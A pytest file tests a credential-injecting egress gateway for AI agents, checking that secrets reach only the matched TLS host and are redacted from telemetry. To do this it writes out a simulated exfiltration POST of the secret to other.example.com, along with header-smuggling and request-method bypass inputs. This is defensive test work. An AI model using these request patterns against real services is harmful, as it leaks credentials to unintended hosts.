"""Credentials on their way out: to the matched host over TLS, and to nobody else; seen by nobody else."""

from __future__ import annotations

import gzip
import json
from urllib.parse import unquote

import pytest
from credential_policies import QUERY, SECRET, policy
from credentials_lab import GET, HEAD, NAME, OTHER, ask, bearer, serving, shown
from egress_lab import answer
from tls_material import Authority

# --- to the matched host --------------------------------------------------------------------------------------------


async def test_the_matched_host_gets_it_instead_of_what_the_agent_sent():
    async with serving(bearer()) as (lab, seen):
        again = GET.replace(b"Authorization: Bearer", b"authorization: x\r\nAUTHORIZATION: Bearer")
        await ask(lab)
        await ask(lab, again)
        await lab.recorder.wait(2)
    for head, _ in seen:
        assert head.lower().count(b"authorization:") == 1
        assert f"uthorization: Bearer {SECRET}\r\n".encode() in head
        assert b"placeholder" not in head
    assert all(span.attributes["clrk.credential.policies"] == ("default/key",) for span in lab.spans)
    assert lab.spans[0].attributes["url.full"] == "https://api.example.com/v1?x=1"
    assert SECRET not in shown(lab)


async def test_several_for_one_host_and_the_query():
    other = policy({"type": "Header", "headerName": "X-Api-Key"}, name="second", hostnames=[NAME], secretKey="second")
    query = policy(QUERY, name="third", hostnames=[NAME])
    secrets = {"token": SECRET, "second": "another-secret"}
    async with serving(bearer(), other, query, secrets=secrets) as (lab, seen):
        await ask(lab, GET.replace(b"?x=1", b"?KEY=placeholder&x=1&%6bey=placeholder"))
        (span,) = await lab.recorder.wait()
    assert seen[0][0].startswith(f"GET /v1?x=1&key={SECRET} HTTP/1.1\r\n".encode())
    assert b"\r\nX-Api-Key: another-secret\r\n" in seen[0][0]
    assert f"Bearer {SECRET}".encode() in seen[0][0]
    assert "another-secret" not in shown(lab)
    assert SECRET not in shown(lab)
    assert span.attributes["url.full"].startswith("https://api.example.com/v1?")


async def test_a_header_that_connection_names_arrives_all_the_same():
    own = policy({"type": "Header", "headerName": "X-Api-Key"}, hostnames=[NAME])
    async with serving(own) as (lab, seen):
        await ask(lab, HEAD + b"Connection: keep-alive, X-Api-Key\r\nX-Api-Key: placeholder\r\n\r\n")
    assert f"\r\nX-Api-Key: {SECRET}\r\n".encode() in seen[0][0]
    assert b"placeholder" not in seen[0][0].replace(b"Bearer placeholder", b"")


async def test_a_trailer_of_the_same_name_does_not_go_out():
    async def read(reader):
        return await reader.readuntil(b"\r\n\r\n"), await reader.readuntil(b"X-Sum: 1\r\n\r\n")

    own = policy({"type": "Header", "headerName": "X-Api-Key"}, hostnames=[NAME])
    async with serving(own, read=read) as (lab, seen):
        trailers = b"0\r\nX_Api-Key: placeholder\r\nX-Sum: 1\r\n\r\n"
        await ask(lab, HEAD.replace(b"GET", b"POST") + b"Transfer-Encoding: chunked\r\n\r\n1\r\na\r\n" + trailers)
    assert seen[0][1] == b"1\r\na\r\n0\r\nX-Sum: 1\r\n\r\n"


async def test_a_websocket_handshake_gets_it_and_another_upgrade_is_a_plain_request():
    def reply(head, _):
        if b"websocket" in head:
            return b"HTTP/1.1 101 Switching Protocols\r\nConnection: Upgrade\r\nUpgrade: websocket\r\n\r\nframe"
        return answer(b"fine")

    async with serving(bearer(), reply=reply) as (lab, seen):
        wire = await lab.dial_tls(NAME)
        wire.writer.write(HEAD + b"Connection: Upgrade\r\nUpgrade: websocket\r\n\r\n")
        assert b"101 Switching" in await wire.reader.readuntil(b"frame")
        await ask(lab, HEAD + b"Connection: Upgrade\r\nUpgrade: h2c\r\n\r\n")
    assert all(f"Bearer {SECRET}".encode() in head for head, _ in seen)
    assert b"h2c" not in seen[1][0]


async def test_a_rotated_secret_is_used_by_the_next_request_of_a_running_agent():
    async with serving(bearer()) as (lab, seen):
        wire = await lab.dial_tls(NAME)
        for value in ("", "rotated-9d1f"):
            if value:
                lab.service.reconfigure(lab.config.model_copy(update={"secrets": {"default/keys": {"token": value}}}))
            wire.writer.write(GET)
            await wire.response()
        lab.service.reconfigure(lab.config.model_copy(update={"secrets": {}}))
        wire.writer.write(GET)
        assert b"502 Bad Gateway" in (await wire.response())[0]
        await lab.recorder.wait(3)
    assert [head.split(b"Bearer ")[1].split(b"\r\n")[0].decode() for head, _ in seen] == [SECRET, "rotated-9d1f"]
    assert "rotated-9d1f" not in shown(lab)


# --- to nobody else -------------------------------------------------------------------------------------------------


async def test_not_over_plain_http():
    async with serving(bearer(), secure=False) as (lab, seen):
        wire = await lab.dial(NAME, 80)
        wire.writer.write(GET)
        await wire.response()
        (span,) = await lab.recorder.wait()
    assert b"Authorization: Bearer placeholder\r\n" in seen[0][0]
    assert "clrk.credential.policies" not in span.attributes


async def test_not_to_another_host_not_even_one_that_the_answer_sends_the_agent_to():
    def reply(head, _):
        return answer(b"", "302 Found", f"Location: https://{OTHER}/v1\r\n") if NAME.encode() in head else answer(b"no")

    async with serving(bearer(), reply=reply) as (lab, seen):
        assert f"Location: https://{OTHER}/v1".encode() in await ask(lab)
        wire = await lab.dial_tls(OTHER)
        wire.writer.write(GET.replace(NAME.encode(), OTHER.encode()))
        await wire.response()
    assert SECRET.encode() in seen[0][0]
    assert b"Bearer placeholder" in seen[1][0]
    assert SECRET.encode() not in seen[1][0]


@pytest.mark.parametrize("written", ["{}", "%72{}", "{}%20x", "a?b={}&c"])
async def test_a_head_that_repeats_a_value_does_not_tell_the_agent(written):
    """Servers that add a slash, or ask for HTTPS, send the whole query back: `?key=` among it."""
    told = written.format(SECRET if "%72" not in written else SECRET[1:])

    def reply(head, _):
        early = f"HTTP/1.1 103 Early Hints\r\nLink: </{told}>; rel=preload\r\n\r\n".encode()
        if b"/v1/" in head:
            return answer(b"fine")
        return early + answer(b"", f"308 To {told}", f"Location: /v1/?key={told}\r\nX-Plain: a%20b\r\n")

    async with serving(policy(QUERY, hostnames=[NAME]), reply=reply) as (lab, seen):
        wire = await lab.dial_tls(NAME)
        wire.writer.write(GET)
        early, _ = await wire.response()
        final, _ = await wire.response()
        wire.writer.write(GET.replace(b"/v1?x=1", b"/v1/?key=REDACTED"))
        assert (await wire.response())[1] == b"fine"
        await lab.recorder.wait(2)
    heads = (early + final).decode()
    assert SECRET not in unquote(heads)
    assert heads.count("REDACTED") == 3
    assert "\r\nX-Plain: a%20b\r\n" in heads
    assert seen[1][0].startswith(f"GET /v1/?key={SECRET} HTTP/1.1\r\n".encode())
    assert SECRET not in shown(lab)


async def test_a_trailer_that_repeats_a_value_does_not_tell_the_agent():
    def reply(*_):
        head = b"HTTP/1.1 200 OK\r\nTransfer-Encoding: chunked\r\nTrailer: X-Echo\r\n\r\n"
        return head + b"4\r\nfine\r\n0\r\nX-Echo: %b\r\nX-Sum: 1\r\n\r\n" % SECRET.encode()

    async with serving(bearer(), reply=reply) as (lab, _):
        wire = await lab.dial_tls(NAME)
        wire.writer.write(GET)
        assert await wire.reader.readuntil(b"X-Sum: 1\r\n\r\n")
        wire.writer.write(GET)
        assert b"\r\n0\r\nX-Echo: REDACTED\r\n" in await wire.reader.readuntil(b"X-Sum: 1\r\n\r\n")


async def test_what_frames_an_answer_is_not_taken_for_a_value():
    body = b"x" * 1234
    async with serving(bearer(), reply=lambda *_: answer(body), secrets={"token": "1234"}) as (lab, _):
        assert (await ask(lab)).endswith(b"Content-Length: 1234\r\n\r\n" + body)


async def test_a_heads_words_that_are_nobodys_secret_pass_to_the_letter():
    reply = answer(b"", headers="X-A: [redacted] caf\xe9 %41\r\nSet-Cookie: token=abc; Path=/\r\n")
    async with serving(bearer(), reply=lambda *_: reply) as (lab, _):
        assert await ask(lab) == reply


async def test_not_to_an_address_that_the_agent_dialled_under_the_hosts_name():
    async with serving(bearer()) as (lab, seen):
        wire = await lab.dial("127.0.0.1", lab.upstream_port)
        await wire.writer.start_tls(lab.ca.client_context(), server_hostname=NAME)
        wire.writer.write(GET)
        await wire.response()
    assert b"Bearer placeholder" in seen[0][0]
    assert SECRET.encode() not in seen[0][0]


@pytest.mark.parametrize(("sni", "host"), [(OTHER, NAME), (OTHER, OTHER), (NAME, OTHER)])
async def test_names_that_disagree_get_nothing(sni, host):
    async with serving(bearer()) as (lab, seen):
        assert b"421 " in await ask(lab, GET.replace(NAME.encode(), host.encode()), sni=sni)
    assert seen == []


async def test_not_into_a_tunnel():
    async with serving(bearer(), gateway={"tls": {"passthroughHosts": [NAME]}}) as (lab, seen):
        authority = Authority("unused")
        context = authority.client_context()
        context.check_hostname, context.verify_mode = False, 0
        await ask(lab, context=context)
    assert seen[0][0] == GET


@pytest.mark.parametrize(
    ("request_bytes", "status", "reason"),
    [
        (HEAD.replace(b"GET /v1?x=1", b"CONNECT api.example.com:443") + b"\r\n", 400, "bad_request_target"),
        (HEAD.replace(b"GET", b"TRACE") + b"\r\n", 403, "trace_with_credentials"),
    ],
)
async def test_methods_that_would_carry_it_elsewhere(request_bytes, status, reason):
    async with serving(bearer()) as (lab, seen):
        raw = await ask(lab, request_bytes)
        (span,) = await lab.recorder.wait()
    assert raw.startswith(f"HTTP/1.1 {status} ".encode())
    assert span.attributes["clrk.egress.deny_reason"] == reason
    assert seen == []


@pytest.mark.parametrize("secrets", [{"other": "x"}, {"token": ""}])
async def test_a_missing_secret_is_a_502_that_names_it(secrets):
    async with serving(bearer(), secrets=secrets) as (lab, seen):
        raw = await ask(lab)
        (span,) = await lab.recorder.wait()
    problem = json.loads(raw.partition(b"\r\n\r\n")[2])
    assert (problem["status"], problem["reason"]) == (502, "credential_missing")
    assert "Secret default/keys, key 'token'" in problem["detail"]
    assert problem["invocation_id"] == lab.identity.invocation_id
    assert (span.name, span.attributes["error.type"]) == ("egress.dial.failed", "credential_missing")
    assert "Secret default/keys" in span.status.message
    assert seen == []


# --- seen by nobody else --------------------------------------------------------------------------------------------


@pytest.mark.parametrize("coding", ["", "Content-Encoding: gzip\r\n"])
async def test_what_an_upstream_echoes_is_in_no_capture(coding):
    def reply(head, body):
        text = json.dumps({"you sent": head.decode(), "and": body.decode()}).encode()
        extra = f"Content-Type: application/json\r\nX-Echo: {SECRET}\r\nX-Custom-Login: other\r\n{coding}"
        return answer(gzip.compress(text) if coding else text, headers=extra)

    custom = policy({"type": "Header", "headerName": "X_custom-Login"}, name="c", hostnames=[NAME])
    capture = {"otlp": {"endpoint": "http://127.0.0.1:9", "captureBody": {}}}
    async with serving(bearer(), custom, reply=reply, gateway=capture) as (lab, _):
        raw = await ask(lab)
        told = gzip.decompress(raw.partition(b"\r\n\r\n")[2]) if coding else raw
        assert SECRET.encode() in told  # the agent is told what its upstream tells it
        wire = await lab.dial_tls(OTHER)  # and may tell it to others
        body = b'{"stolen": "%b"}' % SECRET.encode()
        wire.writer.write(
            b"POST /%b HTTP/1.1\r\nHost: other.example.com\r\nX-custom-login: open\r\n"
            b"Content-Type: application/json\r\nContent-Length: %d\r\n\r\n%b" % (SECRET.encode(), len(body), body)
        )
        await wire.response()
        first, second = await lab.recorder.wait(2)
    assert SECRET not in shown(lab)
    events = {event.name: event.attributes for event in first.events}
    assert events["http.request.headers"]["http.request.header.authorization"] == ["[redacted]"]
    assert events["http.response.headers"]["http.response.header.x-echo"] == ["[redacted]"]
    assert events["http.response.headers"]["http.response.header.x-custom-login"] == ["[redacted]"]
    assert "[redacted]" in events["http.response.body"]["http.response.body.content"]
    assert "REDACTED" in second.attributes["url.full"]
    events = {event.name: event.attributes for event in second.events}
    assert events["http.request.headers"]["http.request.header.x-custom-login"] == ["[redacted]"]
    assert events["http.request.body"]["http.request.body.content"] == '{"stolen": "[redacted]"}'


async def test_what_a_provider_says_of_a_wrong_key_is_not_on_the_span():
    def reply(_, __):
        error = {"error": {"message": f"Incorrect API key provided: {SECRET}.", "type": "invalid_request_error"}}
        return answer(json.dumps(error).encode(), "401 Unauthorized", "Content-Type: application/json\r\n")

    body = json.dumps({"model": f"gpt-{SECRET}", "messages": []}).encode()
    request = HEAD.replace(b"GET /v1?x=1", b"POST /v1/chat/completions") + (
        b"Content-Type: application/json\r\nContent-Length: %d\r\n\r\n%b" % (len(body), body)
    )
    async with serving(bearer(), reply=reply, recognise="real") as (lab, _):
        assert SECRET.encode() in await ask(lab, request)
        (span,) = await lab.recorder.wait()
    assert span.attributes["http.response.status_code"] == 401
    assert span.attributes["gen_ai.request.model"] == "gpt-[redacted]"
    assert SECRET not in shown(lab)
